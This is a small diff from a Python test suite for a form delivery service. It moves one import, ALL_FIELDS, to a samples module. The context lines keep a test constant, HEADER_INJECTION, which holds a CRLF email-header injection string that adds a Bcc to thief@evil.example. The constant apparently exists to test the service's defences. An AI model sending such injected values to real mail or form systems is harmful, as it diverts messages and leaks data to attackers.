@@ -22,7 +22,8 @@ from form_service.delivery.payload import PayloadError, parse_payload
 from form_service.delivery.sealing import ARMOR_BEGIN, ARMOR_END, armor
 from outreach.i18n import catalog_path
 from outreach.loader import LoadedProfile
-from tests.form_service.delivery.factory import ALL_FIELDS, partner, payload
+from tests.form_service.delivery.factory import partner, payload
+from tests.form_service.samples import ALL_FIELDS
 
 HEADER_INJECTION = "x\r\nBcc: thief@evil.example\r\nX-Injected: yes\n\nbody"
 EXPECTED_HEADERS = {
